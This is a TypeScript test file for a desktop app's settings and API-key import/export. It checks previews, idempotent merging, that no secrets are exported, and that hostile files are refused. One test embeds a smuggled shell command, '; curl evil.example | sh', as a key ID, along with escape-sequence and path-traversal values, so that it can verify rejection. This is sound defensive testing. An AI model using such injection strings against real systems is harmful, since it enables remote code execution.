import fc from 'fast-check'
import { expect, test } from 'vitest'
import {
  defaultLimits,
  defaultSettings,
  type Failure,
  failed,
  type Limits,
  ok,
  type Result,
  type Settings,
} from '../../preload/contract/index.ts'
import { sampleState } from '../../preload/testing/samples.ts'
import type { LedgerRow } from '../organisation/keys/ledger.ts'
import type { OrganisationRows } from '../organisation/organisation.ts'
import { failure } from '../parallel/failures.ts'
import { SettingsDocument } from '../storage/settings.ts'
import { memoryApp, signedIn } from '../testing/memory-app.ts'
import {
  jsonReply,
  MemoryDesktopSettings,
  MemoryFiles,
  MemoryLog,
  MemoryStore,
} from '../testing/memory-ports.ts'
import { MemoryService } from '../testing/memory-service.ts'
import { settle, VirtualClock } from '../testing/virtual-clock.ts'
import { ImportExport } from './import-export.ts'
import { Navigation } from './navigation.ts'
import { SettingsInForce } from './settings-in-force.ts'
import { StateStore } from './store.ts'
import { Toasts } from './toasts.ts'

const here = 'https://api.parallel.ai/account'
const events = { onWritten: () => {}, onUnreadable: () => {} }
const path = '/home/user/parallel-tray-2026-01-15.json'

const keyOf = (number: number): LedgerRow => ({
  keyId: `${number}`,
  apiKeyId: null,
  appId: 'app_1',
  appName: 'web',
  name: 'ci',
  masked: null,
  createdAt: 0,
  createdBy: null,
  status: { kind: 'alive' },
  appMissing: false,
})
const readingOf = (number: number) => ({ at: number, credit: 0, held: 0 })

/** An organisation whose rows stand for numbers: an import adds those that aren't there yet. */
class FakeOrganisation {
  readonly id: string
  readonly name = 'Halden Research'
  readonly isSignedIn: boolean
  limits: Limits = defaultLimits
  hasOwnLimits = false
  ledger: readonly number[] = []
  history: readonly number[] = []
  /** Set: the disk takes no history. */
  broken: Failure | null = null

  constructor(id: string) {
    this.id = id
    this.isSignedIn = id === 'org_1'
  }

  async export() {
    return { limits: this.limits, ledger: this.ledger.map(keyOf), history: this.history.map(readingOf) }
  }

  async importRows(rows: OrganisationRows): Promise<Result<{ keys: number; readings: number }>> {
    const keys = (rows.ledger as readonly LedgerRow[]).map(({ keyId }) => Number(keyId))
    const ledger = union(this.ledger, keys)
    const added = { keys: ledger.length - this.ledger.length, readings: 0 }
    this.ledger = ledger
    if (this.broken !== null) return failed(this.broken)
    const history = union(
      this.history,
      (rows.history as readonly { at: number }[]).map(({ at }) => at),
    )
    added.readings = history.length - this.history.length
    this.history = history
    return ok(added)
  }

  setLimits(limits: Limits): void {
    this.limits = limits
    this.hasOwnLimits = true
  }
}

function union(one: readonly number[], other: readonly number[]): readonly number[] {
  return [...new Set([...one, ...other])].sort((a, b) => a - b)
}

class FakeOrganisations {
  readonly all = new Map<string, FakeOrganisation>()

  get exportable(): readonly FakeOrganisation[] {
    return [...this.all.values()].filter(({ isSignedIn, hasOwnLimits }) => isSignedIn || hasOwnLimits)
  }

  obtain(id: string): FakeOrganisation {
    const organisation = this.all.get(id) ?? new FakeOrganisation(id)
    this.all.set(id, organisation)
    return organisation
  }
}

/** A computer with its own settings and organisations; the files are what is carried between two. */
function computer(files = new MemoryFiles(), serviceApiUrl = here) {
  const store = new MemoryStore()
  const state = new StateStore(sampleState(), (error) => {
    throw error
  })
  const desktop = new MemoryDesktopSettings()
  const log = new MemoryLog()
  const settings = new SettingsInForce({
    document: new SettingsDocument(store, events),
    desktop,
    log,
    report: (settings) => state.update({ settings }),
  })
  const organisations = new FakeOrganisations()
  const importExport = new ImportExport(
    {
      files,
      clock: new VirtualClock(),
      log,
      serviceApiUrl,
      navigation: new Navigation(state),
      toasts: new Toasts(state),
      settings,
      organisations,
    },
    state,
  )
  const of = (id: string) => organisations.obtain(id)
  return {
    files,
    state,
    desktop,
    log,
    settings,
    importExport,
    of,
    /** What is stored, to compare. */
    kept: () => ({
      settings: settings.current,
      organisations: [...organisations.all.values()]
        .map(({ id, limits, ledger, history }) => ({ id, limits, ledger, history }))
        .sort((a, b) => (a.id < b.id ? -1 : 1)),
    }),
    said: () => state.current.toasts.map((one) => one.content),
    async take(from: string): Promise<Result<null>> {
      files.opens = from
      await importExport.readFile()
      return importExport.importFound()
    },
  }
}

const chosen: Settings = { ...defaultSettings, theme: 'dark', pollInterval: 'slower', shortcut: 'Control+P' }

/** The file of a computer where everything was changed. */
async function carried(): Promise<MemoryFiles> {
  const old = computer()
  await old.settings.change(chosen)
  old.of('org_1').setLimits({ ...defaultLimits, daysLeftBelow: 9 })
  old.of('org_2').setLimits({ ...defaultLimits, rotateAfterDays: 30 })
  old.of('org_1').ledger = [1, 2]
  old.of('org_1').history = [10, 20, 30]
  old.of('org_2').history = [40]
  await old.importExport.exportAll()
  expect(old.said()).toEqual([{ kind: 'exported', file: 'parallel-tray-2026-01-15.json' }])
  return old.files
}

test('shows the content of the file first, and changes nothing before the user confirms', async () => {
  const next = computer(await carried())
  const before = next.kept()
  next.files.opens = path
  await next.importExport.readFile()
  expect(next.state.current.view.dialog).toEqual({
    kind: 'import',
    preview: {
      file: 'parallel-tray-2026-01-15.json',
      madeAt: Date.UTC(2026, 0, 15, 12),
      settings: true,
      keys: 2,
      readings: 4,
      organisations: 2,
    },
  })
  expect(next.kept()).toEqual(before)
  expect(next.desktop.asked).toEqual([])
})

test('imports settings, limits, ledger and history after that', async () => {
  const next = computer(await carried())
  next.of('org_1').ledger = [2, 3]
  next.of('org_3').setLimits({ ...defaultLimits, daysLeftBelow: 1 })
  await next.take(path)
  expect(next.state.current.view.dialog).toBeNull()
  expect(next.state.current.settings).toEqual(chosen)
  expect(next.desktop.inForce).toEqual(chosen)
  expect(next.of('org_1').limits.daysLeftBelow).toBe(9)
  expect(next.of('org_2').limits.rotateAfterDays).toBe(30)
  expect(next.of('org_3').limits.daysLeftBelow).toBe(1)
  expect([...next.of('org_1').ledger]).toEqual([1, 2, 3])
  expect(next.of('org_2').history).toEqual([40])
  // Those that are new here, not those in the file.
  expect(next.said()).toEqual([{ kind: 'imported', keys: 1, readings: 4 }])
})

test('keeps a setting that this desktop refuses, and imports the others', async () => {
  const next = computer(await carried())
  next.desktop.refused = ['shortcut']
  await next.take(path)
  expect(next.settings.current).toEqual({ ...chosen, shortcut: null })
  expect(next.log.lines.join()).toContain('shortcut')
})

test('keeps settings that the file of an older version lacks', async () => {
  const files = await carried()
  const older = JSON.parse(files.files.get(path) ?? '')
  delete older.settings.theme
  delete older.organisations[0].limits.daysLeftBelow
  files.files.set(path, JSON.stringify(older))
  const next = computer(files)
  await next.settings.change({ theme: 'light' })
  next.of('org_1').setLimits({ ...defaultLimits, daysLeftBelow: 5, spendableBelowCents: 1 })
  await next.take(path)
  expect(next.settings.current).toEqual({ ...chosen, theme: 'light' })
  expect(next.of('org_1').limits).toEqual({ ...defaultLimits, daysLeftBelow: 5 })
})

test('discards the file when the dialog is closed', async () => {
  const next = computer(await carried())
  next.files.opens = path
  await next.importExport.readFile()
  next.state.update(({ view }) => ({ view: { ...view, dialog: null } }))
  await settle()
  expect(await next.importExport.importFound()).toMatchObject({ failure: { kind: 'cancelled' } })
  expect(next.settings.current).toEqual(defaultSettings)
})

test('reports nothing when the user cancels the system’s dialog', async () => {
  const { files, importExport, said, state } = computer()
  files.folder = null
  expect(await importExport.exportAll()).toEqual(ok(null))
  expect(await importExport.readFile()).toEqual(ok(null))
  expect([said(), files.files.size, state.current.view.dialog]).toEqual([[], 0, null])
})

test('runs one export or import at a time', async () => {
  const { files, importExport } = computer()
  let choose = (_path: string | null): void => {}
  files.askWhereToSave = () =>
    new Promise((resolve) => {
      choose = resolve
    })
  const first = importExport.exportAll()
  expect(await importExport.exportAll()).toMatchObject({ failure: { kind: 'busy' } })
  expect(await importExport.readFile()).toMatchObject({ failure: { kind: 'busy' } })
  choose(null)
  await first
  files.opens = null
  expect(await importExport.readFile()).toMatchObject({ ok: true })
})

test.each([
  ['no JSON', '{', 'no JSON'],
  ['rows that are none', '"history":["x"]', 'not understood'],
  ['too large', '', 'too large'],
])('reports a bad file with its name, once, without a dialog: %s', async (what, text, message) => {
  const next = computer(await carried())
  const whole = next.files.files.get(path) ?? ''
  if (what === 'no JSON') next.files.files.set(path, text)
  else if (what === 'too large') next.files.files.set(path, whole + ' '.repeat(50 * 1024 * 1024))
  else next.files.files.set(path, whole.replace(/"history":\[\{[^\]]*\]/, text))
  next.files.opens = path
  expect(await next.importExport.readFile()).toEqual(ok(null))
  const why = { kind: 'bad-file', message: expect.stringContaining(message) }
  const name = 'parallel-tray-2026-01-15.json'
  expect(next.said()).toMatchObject([{ kind: 'failed', operation: 'import', name, failure: why }])
  expect(next.state.current.view.dialog).toBeNull()
})

test('reports a failed write, and can be repeated', async () => {
  const old = computer()
  old.files.broken = failure('storage', 'ENOSPC')
  await old.importExport.exportAll()
  expect(old.said()).toMatchObject([{ kind: 'failed', operation: 'export', failure: { kind: 'storage' } }])

  const next = computer(await carried())
  next.of('org_1').broken = failure('storage', 'ENOSPC')
  await next.take(path)
  expect(next.said()).toMatchObject([{ kind: 'failed', operation: 'import', failure: { kind: 'storage' } }])
  expect(next.settings.current).toEqual(defaultSettings)
  next.of('org_1').broken = null
  await next.take(path)
  expect(next.settings.current).toEqual(chosen)
  expect(next.of('org_1').history).toEqual([10, 20, 30])
})

test('ignores organisations of another server', async () => {
  const other = computer(await carried(), 'https://api.other.example/account')
  await other.take(path)
  expect(other.kept()).toMatchObject({ settings: chosen, organisations: [] })
})

test('never exports a token, a client id or anything else of a sign-in', async () => {
  const { app, commands, files, service, store, secrets } = await signedIn()
  await commands['settings.change']({ change: { theme: 'dark' } })
  await commands['data.export']({})
  const [text = ''] = files.files.values()
  expect(text).toContain('Halden Research')
  expect(text).toContain('"theme":"dark"')
  const planted = [
    service.liveRefreshToken,
    app.organisations.get('org_1')?.session.record.grant?.accessToken,
    ...service.clientIds,
    'device-',
    'access-',
    'refresh-',
    'scope',
  ]
  for (const secret of planted) expect(text).not.toContain(secret ?? 'missing')
  // Nor in the sealed form.
  const documents = [...store.files.values()].join()
  const sealed = /"sealed":"([^"]+)"/.exec(documents)?.[1] ?? 'missing'
  expect(documents).toContain(sealed)
  expect(text).not.toContain(sealed)
  expect(secrets.strength).toBe('strong')
})

test('transfers limits, ledger and history by the commands, and no secret of a key', async () => {
  const clock = new VirtualClock()
  const service = new MemoryService(clock)
  service.scope = 'keys:read keys:create keys:delete apps:read apps:create apps:delete balance:read'
  const app = { app_id: 'app_1', app_name: 'web-monitor', org_id: 'org_1', org_name: null }
  const key = { api_key_id: 'key_1', api_key_name: 'prod-1', created_by_user_id: 'u', created_at: 1768478400 }
  const secret = {
    created_by_user_email: 'a@example.com',
    display_value: 'pk…7',
    raw_api_key: 'planted-secret',
  }
  service.before = ({ method, url }) => {
    if (!url.includes('/apps')) return undefined
    return method === 'GET' ? jsonReply(200, { apps: [app] }) : jsonReply(200, { ...app, ...key, ...secret })
  }
  const old = await signedIn({ clock, service })
  await old.commands['limits.change']({ organisationId: 'org_1', change: { daysLeftBelow: 8 } })
  await old.commands['keys.refresh']({ organisationId: 'org_1' })
  await settle()
  const made = { organisationId: 'org_1', appId: 'app_1', name: 'prod-1' }
  expect(await old.commands['keys.create'](made)).toMatchObject({ ok: true })
  await settle()
  expect(await old.commands['secret.reveal']({})).toEqual(ok('planted-secret'))
  await old.commands['data.export']({})
  const [text = ''] = old.files.files.values()
  expect(text).toContain('prod-1')
  expect(text).not.toContain('planted-secret')

  const next = memoryApp()
  next.files.files.set(path, text)
  next.files.opens = path
  await next.commands['data.import']({})
  const preview = { organisations: 1, keys: 1, readings: 1 }
  expect(next.app.state.current.view.dialog).toMatchObject({ kind: 'import', preview })
  for (const counts of [
    { keys: 1, readings: 1 },
    { keys: 0, readings: 0 },
  ]) {
    await next.commands['data.import']({})
    expect(await next.commands['data.import-now']({})).toMatchObject({ ok: true })
    expect(next.app.state.current.toasts.at(-1)?.content).toEqual({ kind: 'imported', ...counts })
  }
  // All of it is there when the organisation comes.
  const back = await signedIn({ store: next.store, appendLog: next.appendLog })
  expect(back.app.state.current.organisations[0]).toMatchObject({
    limits: { daysLeftBelow: 8 },
    keys: { keys: 1 },
  })
})

/** A file that somebody else wrote, to be imported by this user. */
function hostileFile(organisation: object): string {
  const file = { app: 'parallel-tray', version: 1, madeAt: 0 }
  return JSON.stringify({ ...file, organisations: [{ ...hostileOrganisation, ...organisation }] })
}
const hostileOrganisation = { serviceApiUrl: here, organisationId: 'org_1', name: null }

test.each([
  ['higher', 15_000, 1_000_000, 15_000],
  ['none', 15_000, null, 15_000],
  ['lower', 15_000, 5000, 5000],
  ['one where there is none here', null, 5000, 5000],
])('a file never raises the top-up limit of a day: %s', async (_, limitHere, inFile, after) => {
  const made = computer()
  made.of('org_1').setLimits({ ...defaultLimits, topUpPerDayCents: limitHere })
  made.files.files.set(path, hostileFile({ limits: { topUpPerDayCents: inFile, daysLeftBelow: 8 } }))
  made.files.opens = path
  await made.importExport.readFile()
  const isKept = after === limitHere
  expect(made.importExport.contents()).toMatchObject({
    value: [
      {
        limits: [
          { limit: 'daysLeftBelow', here: 3, inFile: 8, isKept: false },
          { limit: 'topUpPerDayCents', here: limitHere, inFile, isKept },
        ],
      },
    ],
  })
  await made.importExport.importFound()
  expect(made.of('org_1').limits).toMatchObject({ topUpPerDayCents: after, daysLeftBelow: 8 })
})

test('every key of a file is listed with the server’s id before anything changes, and stays marked', async () => {
  const made = await signedIn()
  const alias = { ...keyOf(1), apiKeyId: 'key_production', name: 'old test key' }
  const gone = { ...keyOf(2), apiKeyId: 'key_2', status: { kind: 'deleted', at: 1 } }
  made.files.files.set(path, hostileFile({ ledger: [alias, gone] }))
  made.files.opens = path
  expect(await made.commands['import.read']({})).toMatchObject({ failure: { kind: 'cancelled' } })
  await made.commands['data.import']({})
  const key = { appName: 'web', apiKeyId: 'key_production', name: 'old test key', isDeleted: false }
  expect(await made.commands['import.read']({})).toMatchObject({
    ok: true,
    value: [{ id: 'org_1', keys: [key, { keyId: '2', apiKeyId: 'key_2', isDeleted: true }] }],
  })
  const rows = async () => {
    const read = await made.commands['keys.read']({ organisationId: 'org_1' })
    return read.ok ? read.value.apps.flatMap(({ keys }) => keys) : []
  }
  expect(await rows()).toEqual([])
  await made.commands['data.import-now']({})
  expect(await rows()).toMatchObject([{ name: 'old test key', imported: { apiKeyId: 'key_production' } }])
})

test.each([
  ['a command as an id', { apiKeyId: '; curl evil.example | sh\n' }],
  ['an escape as an id', { apiKeyId: 'key\u001b[2J' }],
  ['another path as an app', { appId: '..' }],
])('a file with %s is refused', async (_, change) => {
  const made = computer()
  made.files.files.set(path, hostileFile({ ledger: [{ ...keyOf(1), ...change }] }))
  made.files.opens = path
  await made.importExport.readFile()
  expect(made.said()).toMatchObject([{ kind: 'failed', failure: { kind: 'bad-file' } }])
})

test('sanitises names in a file', async () => {
  const made = await signedIn()
  made.files.files.set(path, hostileFile({ ledger: [{ ...keyOf(1), name: 'a\u202Eb\u200Bc' }] }))
  made.files.opens = path
  await made.commands['data.import']({})
  expect(await made.commands['import.read']({})).toMatchObject({ value: [{ keys: [{ name: 'abc' }] }] })
})

const ids = fc.constantFrom('org_1', 'org_2')
const someRows = fc.dictionary(ids, fc.uniqueArray(fc.nat(20)))
const someLimits = fc.dictionary(ids, fc.integer({ min: 1, max: 365 }))
const house = fc.record({
  ledger: someRows,
  history: someRows,
  days: someLimits,
  theme: fc.constantFrom('dark', 'light'),
})
type House = typeof house extends fc.Arbitrary<infer T> ? T : never

async function built(its: House) {
  const made = computer()
  for (const [id, rows] of Object.entries(its.ledger)) made.of(id).ledger = sorted(rows)
  for (const [id, rows] of Object.entries(its.history)) made.of(id).history = sorted(rows)
  // The organisation with limits is the one that was signed in.
  for (const id of ['org_1', 'org_2']) {
    made.of(id).setLimits({ ...defaultLimits, daysLeftBelow: its.days[id] ?? null })
  }
  await made.settings.change({ theme: its.theme as 'dark' | 'light' })
  await made.importExport.exportAll()
  return made
}
const sorted = (rows: readonly number[]) => [...rows].sort((a, b) => a - b)
const fileOf = (made: { files: MemoryFiles }) => made.files.files.get(path) ?? ''

test('property: importing twice is the same as once', async () => {
  await fc.assert(
    fc.asyncProperty(house, house, async (old, next) => {
      const file = fileOf(await built(old))
      const made = await built(next)
      made.files.files.set(path, file)
      await made.take(path)
      const once = made.kept()
      await made.take(path)
      expect(made.kept()).toEqual(once)
      expect(made.said().at(-1)).toEqual({ kind: 'imported', keys: 0, readings: 0 })
    }),
    { numRuns: 40 },
  )
})

test('property: the order of imports does not matter for rows; settings and limits are those of the last file', async () => {
  await fc.assert(
    fc.asyncProperty(house, house, house, async (a, b, next) => {
      const files = [fileOf(await built(a)), fileOf(await built(b))]
      const oneWay = await built(next)
      const other = await built(next)
      for (const [made, order] of [
        [oneWay, files],
        [other, [...files].reverse()],
      ] as const) {
        for (const file of order) {
          made.files.files.set(path, file)
          await made.take(path)
        }
      }
      const rowsOf = ({ kept }: typeof oneWay) =>
        kept().organisations.map(({ id, ledger, history }) => ({ id, ledger, history }))
      expect(rowsOf(other)).toEqual(rowsOf(oneWay))
      expect(oneWay.settings.current.theme).toBe(b.theme)
      expect(other.of('org_1').limits.daysLeftBelow).toBe(a.days.org_1 ?? null)
    }),
    { numRuns: 40 },
  )
})
